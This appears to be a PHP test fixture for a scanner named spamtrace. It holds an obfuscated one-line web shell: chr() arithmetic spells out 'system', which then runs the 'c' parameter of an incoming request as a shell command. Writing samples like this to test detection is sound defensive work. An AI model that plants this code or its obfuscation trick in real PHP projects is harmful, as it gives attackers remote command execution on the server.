<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$f = chr(100 + 15) . chr(0x79) . chr(230 / 2) . chr(58 * 2) . chr(101) . chr(109);
call_user_func_array($f, [$_GET['c']]);
